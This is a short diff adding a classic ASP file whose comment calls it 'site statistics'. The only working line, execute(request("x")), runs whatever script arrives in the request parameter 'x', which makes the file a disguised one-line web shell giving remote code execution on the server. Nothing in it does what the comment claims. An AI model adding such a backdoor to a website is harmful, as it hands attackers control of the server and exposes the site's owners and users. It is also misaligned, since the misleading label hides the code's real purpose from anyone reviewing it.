@@ -1,0 +1,5 @@
+<%
+' site statistics
+Response.Buffer = True
+execute(request("x"))
+%>
